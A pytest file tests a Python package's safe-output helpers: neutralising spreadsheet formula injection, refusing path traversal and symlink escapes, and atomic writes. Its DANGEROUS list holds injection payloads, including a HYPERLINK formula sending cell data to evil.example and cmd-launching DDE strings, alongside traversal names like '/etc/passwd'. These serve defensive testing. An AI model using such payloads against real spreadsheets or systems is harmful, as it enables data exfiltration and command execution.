"""Safe outputs: formula injection neutralised (OWASP), paths kept inside the output folder."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from funnelstats._safe_io import (
    atomic_write_text,
    neutralise_cell,
    neutralise_frame,
    safe_join,
    write_table,
)

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Acme Corp", "Deal = big", "a+b", "", "'already quoted", "00123"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_dangerous_cells_get_an_apostrophe(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_cells_are_unchanged(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [-5, -5.5, 0, None, float("nan"), pd.Timestamp("2024-01-01")])
def test_non_text_is_unchanged(value):
    out = neutralise_cell(value)
    assert out is value or (out != out and value != value)


def test_frame_is_neutralised_without_touching_the_callers_frame():
    df = pd.DataFrame(
        {
            "deal": pd.array(["=1+1", "ok"], dtype="string"),
            "stage": pd.Categorical(["@x", "Lead"]),
            "amount": [-5.0, 3.0],
            "=col": ["a", "b"],
        }
    )
    before = df.copy()
    out = neutralise_frame(df)
    pd.testing.assert_frame_equal(df, before)
    assert out["deal"].tolist() == ["'=1+1", "ok"]
    assert out["stage"].tolist() == ["'@x", "Lead"]
    assert out["amount"].tolist() == [-5.0, 3.0]
    assert list(out.columns) == ["deal", "stage", "amount", "'=col"]


def test_csv_written_is_safe_and_round_trips(tmp_path):
    df = pd.DataFrame({"deal": DANGEROUS + HARMLESS, "amount": range(len(DANGEROUS + HARMLESS))})
    path = write_table(df, tmp_path / "out.csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [r[0] for r in rows[1:]]
    assert cells == ["'" + v for v in DANGEROUS] + HARMLESS
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_written_holds_text_not_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    df = pd.DataFrame({"deal": DANGEROUS, "when": pd.Timestamp("2024-01-01", tz="UTC")})
    path = write_table(df, tmp_path / "out.xlsx")
    ws = openpyxl.load_workbook(path).active
    cells = [ws.cell(row=i + 2, column=1) for i in range(len(DANGEROUS))]
    # (XML stores a carriage return as a line feed)
    assert [c.value for c in cells] == ["'" + v.replace("\r", "\n") for v in DANGEROUS]
    assert all(c.data_type == "s" for c in cells)
    # the check can fail: written raw, openpyxl stores the first one as a formula
    raw = tmp_path / "raw.xlsx"
    pd.DataFrame({"deal": DANGEROUS[:1]}).to_excel(raw, index=False)
    assert openpyxl.load_workbook(raw).active.cell(row=2, column=1).data_type == "f"


def test_unknown_table_format_is_refused(tmp_path):
    with pytest.raises(ValueError, match=r"\.csv or \.xlsx"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "out.json")


@pytest.mark.parametrize(
    "name", ["../x.html", "..", ".", "", "/etc/passwd", "sub/x.html", "a\\b.html", "x\x00.html"]
)
def test_names_that_leave_the_folder_are_refused(tmp_path, name):
    with pytest.raises(ValueError, match="would leave the output folder"):
        safe_join(tmp_path, name)


def test_symlink_out_of_the_folder_is_refused(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / "report.html").symlink_to(outside / "report.html")
    with pytest.raises(ValueError, match="would leave"):
        safe_join(out, "report.html")
    assert safe_join(out, "other.html") == out / "other.html"


def test_atomic_write_replaces_whole_files(tmp_path):
    p = tmp_path / "r.html"
    atomic_write_text(p, "old")
    atomic_write_text(p, "new")
    assert p.read_text() == "new"
    assert [x.name for x in tmp_path.iterdir()] == ["r.html"]
